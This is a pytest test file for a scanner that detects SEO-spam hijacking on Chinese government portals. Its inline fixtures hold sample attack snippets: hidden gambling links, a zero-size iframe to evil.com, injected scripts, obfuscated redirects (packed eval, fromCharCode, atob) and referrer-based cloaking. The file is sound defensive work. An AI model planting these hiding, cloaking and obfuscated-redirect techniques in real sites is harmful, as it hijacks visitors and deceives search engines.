"""Security signals found while a page is parsed: hidden links and script targets (no network)."""

import base64
import time
from datetime import date
from pathlib import Path

import pytest

from govinspect.extract import security
from govinspect.extract.html import extract_page
from govinspect.extract.scripts import find_targets
from govinspect.extract.security import MAX_HIDDEN, css_rules, hiding, meta_refresh_url
from govinspect.model import Page

REF = date(2019, 10, 20)
FIXTURES = Path(__file__).parent / "fixtures" / "hijack"
HOME = "http://www.huainan.gov.cn/"


def page_from(html: str, url: str = HOME) -> Page:
    page = Page(url=url, final_url=url)
    extract_page(page, html, REF)
    return page


def fixture(name: str, url: str = HOME) -> Page:
    return page_from((FIXTURES / name).read_text(encoding="utf-8"), url)


def wrap(body: str, head: str = "") -> str:
    return (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'>{head}</head><body>{body}</body></html>"
    )


def hidden(page: Page) -> dict[str, str]:
    return {h["url"]: h["technique"] for h in page.hidden_links}


def targets(page: Page) -> dict[str, str]:
    return {t["url"]: t["technique"] for t in page.script_targets}


# --- inline styles -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("style", "technique"),
    [
        ("display:none", "display_none"),
        ("DISPLAY: NONE !important", "display_none"),
        ("visibility:hidden", "visibility_hidden"),
        ("font-size:0px", "font_size_zero"),
        ("font-size:0", "font_size_zero"),
        ("width:0;height:0;overflow:hidden", "zero_size"),
        ("height:1px;overflow:hidden", "zero_size"),
        ("position:absolute;top:-999px", "offscreen"),
        ("position:fixed; left:-9999px; top:0", "offscreen"),
        ("POSITION:ABSOLUTE;LEFT:-3000PX", "offscreen"),
        ("text-indent:-9999px", "text_indent"),
        ("opacity:0", "opacity_zero"),
        ("opacity:0.0;filter:alpha(opacity=0)", "opacity_zero"),
        ("color:#fff;background-color:#FFFFFF", "same_color"),
        ("color:white;background:#fff url(bg.png)", "same_color"),
        ("color:rgb(255,255,255);background-color:#ffffff", "same_color"),
        ("line-height:0;overflow:hidden", "line_height_zero"),
    ],
)
def test_hiding_styles(style: str, technique: str) -> None:
    assert hiding(style) == technique


@pytest.mark.parametrize(
    "style",
    [
        "",
        "width:100px;height:30px;color:#333",
        "text-decoration:none;border:none",
        "position:absolute;top:48px;left:0",
        "position:relative;left:-1px",
        "height:0",  # content still overflows visibly
        "color:#fff;background:#1d5aa6",
        "font-size:14px;line-height:24px",
        "opacity:0.8",
        "margin-left:-10px",
        "overflow:hidden;height:36px",
    ],
)
def test_visible_styles(style: str) -> None:
    assert hiding(style) is None


def test_hidden_ancestor_hides_every_link_inside() -> None:
    page = page_from(
        wrap(
            '<div style="position:absolute;top:-999px"><p><a href="http://a.com/">澳门葡京</a></p>'
            '<span><a href="http://b.com/x">太阳城</a></span></div><a href="http://c.com/">可见</a>'
        )
    )
    assert hidden(page) == {"http://a.com/": "offscreen", "http://b.com/x": "offscreen"}
    assert page.hidden_links[0] == {
        "url": "http://a.com/", "text": "澳门葡京", "technique": "offscreen", "via": "inline", "tag": "a",
    }  # fmt: skip


def test_hidden_attribute_font_size_and_iframes() -> None:
    page = page_from(
        wrap(
            '<div hidden><a href="http://h.com/">h</a></div>'
            '<a href="http://t.com/" style="font-size:0">t</a>'
            '<iframe src="http://evil.com/x.html" width="0" height="0"></iframe>'
            '<iframe src="/map.html" width="600" height="400"></iframe>'
            '<input type="hidden" name="siteId" value="1">'
        )
    )
    assert hidden(page) == {
        "http://h.com/": "hidden_attr",
        "http://t.com/": "font_size_zero",
        "http://evil.com/x.html": "zero_size",
    }
    assert [h["tag"] for h in page.hidden_links if h["url"].startswith("http://evil")] == ["iframe"]


def test_marquee_tricks_but_not_a_news_ticker() -> None:
    page = page_from(
        wrap(
            '<marquee height="1" width="1"><a href="http://m1.com/">m1</a></marquee>'
            '<marquee scrollamount="10000"><a href="http://m2.com/">m2</a></marquee>'
            '<div style="display:none"><marquee><a href="http://m3.com/">m3</a></marquee></div>'
            '<marquee scrollamount="3" onmouseover="this.stop()"><a href="/tzgg/1.html">公告</a></marquee>'
        )
    )
    assert hidden(page) == {
        "http://m1.com/": "marquee",
        "http://m2.com/": "marquee",
        "http://m3.com/": "display_none",
    }


def test_fixture_marquee_page() -> None:
    page = fixture("article_marquee.html", HOME + "zwgk/tzgg/201910/t20191008_1.html")
    assert set(hidden(page).values()) == {"marquee"}
    assert [h["text"] for h in page.hidden_links] == ["金沙娱乐", "新葡京", "北京赛车pk10"]


# --- <style> rules -------------------------------------------------------------------


def test_css_rules_skip_comments_and_at_rules() -> None:
    css = """@charset "utf-8"; /* a { display:none } */
    .a, #b { display:none }
    @media (max-width:768px) { .pc { display:none } }
    @font-face { font-family: x; }
    div.c a:hover { color:red }"""
    assert [(sel, " ".join(decl.split())) for sel, decl in css_rules(css)] == [
        (".a, #b", "display:none"),
        ("div.c a:hover", "color:red"),
    ]


def test_stylesheet_rules_hide_ids_classes_and_descendants() -> None:
    page = fixture("article_css_hidden.html", HOME + "a/t20190920_2.html")
    assert hidden(page) == {
        "http://www.dfkuaisan.com/": "font_size_zero",
        "http://www.txffc.cc/": "font_size_zero",
        "http://www.yabo2019.com/": "display_none",
        "http://www.crdy.cc/": "display_none",
    }
    assert {h["via"] for h in page.hidden_links} == {"stylesheet"}


def test_stylesheet_ignores_pseudo_classes_media_and_page_root() -> None:
    head = (
        "<style>.menu li:hover ul{display:none} @media print{.noprint{display:none}}"
        " body{display:none} * {opacity:0} .tab a[href]{display:none} ul.sub li{display:none}</style>"
    )
    page = page_from(
        wrap(
            '<ul class="menu"><li><ul><li><a href="http://a.com/">a</a></li></ul></li></ul>'
            '<p class="noprint"><a href="http://b.com/">b</a></p>'
            '<div class="tab"><a href="http://c.com/">c</a></div>'
            '<ul class="sub"><li><a href="/zwgk/">政务公开</a></li></ul>',
            head,
        )
    )
    assert hidden(page) == {HOME + "zwgk/": "display_none"}


def test_clean_home_page_records_only_own_menus_and_tabs() -> None:
    page = fixture("home_clean.html")
    assert 100 <= len(page.hidden_links) <= MAX_HIDDEN
    foreign = {h["url"] for h in page.hidden_links if "huainan.gov.cn" not in h["url"]}
    # the 中央媒体 tab and the cnzz icon link, judged (and cleared) by the check
    assert "http://www.people.com.cn/" in foreign and "http://www.ahnews.com.cn/" in foreign
    assert all(not u.startswith("http://www.am") for u in foreign)
    assert (
        page.title == "淮南市人民政府" and "政务要闻" in page.text
    )  # the rest of extract still works


def test_hidden_links_are_capped() -> None:
    links = "".join(f'<a href="http://spam{i}.com/">s{i}</a>' for i in range(500))
    page = page_from(wrap(f'<div style="display:none">{links}</div>'))
    assert len(page.hidden_links) == MAX_HIDDEN


# --- scripts -------------------------------------------------------------------------


def _hex(s: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in s)


PACKED = (
    "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--)"
    "d[c]=k[c]||c;k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--)"
    "if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}"
    "('0.1.2=\\'3://4.5/\\';',6,6,'window|location|href|http|spam|com'.split('|'),0,{}))"
)


@pytest.mark.parametrize(
    ("code", "url", "technique", "decoded"),
    [
        ("window.location.href='http://www.bet365-cn.com/';", "http://www.bet365-cn.com/", "location", []),
        ('top.location = "http://a.com/"', "http://a.com/", "location", []),
        ("document.location.replace('//b.com/x')", "//b.com/x", "location", []),
        (
            "document.write(unescape('%3Ca%20href%3D%22http%3A//www.amxpj.com/%22%3E%u6FB3%u95E8%3C/a%3E'));",
            "http://www.amxpj.com/", "document_write", ["unescape"],
        ),
        (
            "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in "location.href='http://evil.com/'") + "))",
            "http://evil.com/", "location", ["fromCharCode"],
        ),
        (
            "var u=atob('" + base64.b64encode(b"http://www.js8888.com/").decode() + "');window.location.replace(u);",
            "http://www.js8888.com/", "location", ["atob"],
        ),
        ("document.write('" + _hex('<script src="http://js.spam.cc/a.js"></script>') + "');",
         "http://js.spam.cc/a.js", "document_write", ["escape"]),
        ("top.location='\\u0068\\u0074\\u0074\\u0070://www.xpj.cc/';", "http://www.xpj.cc/", "location", ["escape"]),
        ("var a='ht'+'tp:/'+'/www.'+'888'+'casino.com';setTimeout(function(){location.href=a},100);",
         "http://www.888casino.com", "location", ["concat"]),
        ('eval("' + _hex("window.location='http://e.com/'") + '")', "http://e.com/", "location", ["eval"]),
        ("window['" + _hex("location") + "']='http://evil.net/';", "http://evil.net/", "location", ["escape"]),
        (PACKED, "http://spam.com/", "location", ["packer"]),
        ("document.getElementById('f').innerHTML='<a href=\"http://www.ylzx.com\">永利娱乐</a>';",
         "http://www.ylzx.com", "inner_html", []),
        ("var s=document.createElement('script');s.src='http://x.cc/j.js';document.body.appendChild(s);",
         "http://x.cc/j.js", "script_inject", []),
        (
            'var s=document.referrer;if(s.indexOf("baidu")>0||s.indexOf("sogou")>0||s.indexOf("so.com")>0)'
            '{window.location.href="http://www.amjs.cc/";}',
            "http://www.amjs.cc/", "referrer_check", [],
        ),
        ("if(/baiduspider|googlebot/i.test(navigator.userAgent)){document.write('<a href=\"http://s.com/\">s</a>')}",
         "http://s.com/", "referrer_check", []),
    ],
)  # fmt: skip
def test_script_targets(code: str, url: str, technique: str, decoded: list[str]) -> None:
    found = find_targets(code)
    assert [(t.url, t.technique) for t in found] == [(url, technique)]
    assert set(decoded) <= set(found[0].decoded)
    assert len(found[0].snippet) <= 120


def test_referrer_check_with_unknown_target_is_still_recorded() -> None:
    found = find_targets(
        "var r=document.referrer;if(/baidu|google|sm.cn/.test(r)){window.location.href=getUrl();}"
    )
    assert [(t.url, t.technique) for t in found] == [("", "referrer_check")]


@pytest.mark.parametrize(
    "code",
    [
        'var d=new Date();document.write(d.getFullYear()+"年"+(d.getMonth()+1)+"月");',
        "if(location.href.indexOf('pc=1')<0 && location.protocol=='http:'){}",
        "$('.tab li').on('mouseover',function(){$(this).addClass('on').siblings().removeClass('on')});",
        "window.open(this.value)",
        "var mylocation = 'http://x.com/';",
        "location.href=document.getElementById('sel').value;",
        "",
        "document.write(unescape(\"%3Ca href=));eval(String.fromCharCode(99,;location.href=atob('@@@');",
        "'" * 5000,
        "\\" * 5000,
    ],
)
def test_scripts_without_targets(code: str) -> None:
    assert find_targets(code) == []


def test_meta_refresh_url() -> None:
    assert meta_refresh_url("0;url=http://x.com/") == "http://x.com/"
    assert meta_refresh_url("5; URL='/index.html'") == "/index.html"
    assert meta_refresh_url("30") is None


def test_page_script_targets_are_resolved_and_tagged() -> None:
    html = wrap(
        "<div onclick=\"window.location.href='http://oc.com/'\">x</div>"
        "<img src='/a.png' onerror=\"top.location='http://err.com/'\">"
        "<script>window.location.href='/xwzx/';</script>"
        "<script type='text/template'>location.href='http://template.com/'</script>",
        '<meta http-equiv="Refresh" content="0;url=http://www.xpj.com/">',
    ).replace("<body>", "<body onload=\"location.href='http://onload.com/'\">")
    page = page_from(html)
    assert targets(page) == {
        "http://www.xpj.com/": "meta_refresh",
        "http://oc.com/": "location",
        "http://err.com/": "location",
        HOME + "xwzx/": "location",
        "http://onload.com/": "location",
    }
    sources = {t["url"]: t["source"] for t in page.script_targets}
    assert sources == {"http://www.xpj.com/": "meta", "http://oc.com/": "attribute", "http://err.com/": "load",
                       HOME + "xwzx/": "script", "http://onload.com/": "load"}  # fmt: skip


def test_fixture_scripts_page_decodes_every_layer() -> None:
    page = fixture("article_scripts.html", HOME + "a/t20191001_3.html")
    assert targets(page) == {
        "http://js.tjcnzz8.com/tj.js": "document_write",
        "http://www.hg0088vip.com/": "location",
        "http://www.ylg5566.com/": "referrer_check",
        "http://www.ag8808.com/": "document_write",
        "http://www.xsj77.net/": "location",
        # the string array read by index (extract/scripts.py index_arrays)
        "http://www.js6688.com/": "inner_html",
    }
    assert "市政府各部门" in page.text


def test_clean_home_scripts_are_own_or_known_services() -> None:
    page = fixture("home_clean.html")
    assert targets(page) == {
        HOME + "m/index.html": "location",
        "https://dcs.conac.cn/js/12/000/0000/60426345/CA120000000604263450001.js": "document_write",
        "https://hm.baidu.com/hm.js?8b9a6c2d1e4f5a7b3c0d9e8f7a6b5c4d": "script_inject",
    }


def test_huge_inline_script_is_fast_and_small_scripts_are_still_read() -> None:
    code = (
        "var a=1;" * 125_000
        + "document.write('<a href=\"http://middle.com\">x</a>');"
        + "b=2;" * 250_000
    )
    code += "location.href='http://end.com/';"
    html = wrap(
        f"<p>正文</p><script>{code}</script><script>top.location='http://small.com/'</script>"
    )
    assert len(html) > 2_000_000
    start = time.perf_counter()
    page = page_from(html)
    assert time.perf_counter() - start < 1.0
    assert page.text == "正文"
    # head and tail of the huge script within the budget, the small one whole
    assert targets(page) == {"http://end.com/": "location", "http://small.com/": "location"}


def test_malformed_html_never_raises() -> None:
    page = fixture("malformed.html", HOME + "m.html")
    assert page.title.startswith("某局")
    assert page.script_targets == []


def test_signals_failure_never_costs_the_page(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*args: object) -> None:
        raise RuntimeError("lexbor")

    monkeypatch.setattr(security, "_scan", boom)
    page = fixture("home_defaced.html")
    assert page.hidden_links == [] and page.script_targets == []
    assert page.title.startswith("澳门葡京") and "寿县要闻" in page.text


def test_ordinary_portal_scripts_are_recorded_with_how_they_load() -> None:
    # Written like what real portals carry: statistics by createElement and document.write, a
    # share widget appended by script; recorded for the inventory, judged elsewhere.
    page = page_from(wrap(
        '<script>(function(){var s=document.createElement("script");'
        's.src="https://static.cmsvendor-cloud.com/boot.js";document.head.appendChild(s);})();</script>'
        "<script>document.write(unescape(\"%3Cscript src='https://js.users.51.la/9.js'%3E%3C/script%3E\"));</script>"
        "<script>var h=document.getElementsByTagName('head')[0];"
        "h.appendChild(document.createElement('script')).src='http://bdimg.share.baidu.com/static/api/js/share.js';</script>"
        '<ul style="display:none"><li><a href="https://www.12377.cn/">举报中心</a></li></ul>'
    ))
    found = targets(page)
    assert found["https://static.cmsvendor-cloud.com/boot.js"] == "script_inject"
    assert found["https://js.users.51.la/9.js"] == "document_write"
    assert hidden(page) == {"https://www.12377.cn/": "display_none"}


def test_spam_words_a_script_holds_are_recorded_not_judged() -> None:
    page = page_from(wrap("<script>document.write('<div>开云体育官网 开云体育app下载</div>');</script>"
                          "<script>document.write('<p>版权所有：淮南市人民政府</p>');</script>"))
    written = [t for t in page.script_targets if t["technique"] == "write_spam"]
    assert len(written) == 1 and written[0]["url"] == "" and written[0]["words"] == ["开云体育"]
    assert written[0]["source"] == "script" and len(written[0]["text"]) <= 300


def test_a_banned_word_list_of_a_message_board_is_not_written_spam() -> None:
    words = ",".join(f"'{w}'" for w in ["六合彩", "百家乐", "开云体育", "真人视讯", "澳门葡京", "法轮", "代开发票",
                                        "办假证", "赌博", "色情", "裸聊", "私服"])
    page = page_from(wrap(f"<script>var bad=[{words}];function check(t){{return bad.some(w=>t.indexOf(w)>=0);}}"
                          "document.getElementById('tip').innerHTML='请文明留言';</script>"))
    assert [t for t in page.script_targets if t["technique"] == "write_spam"] == []
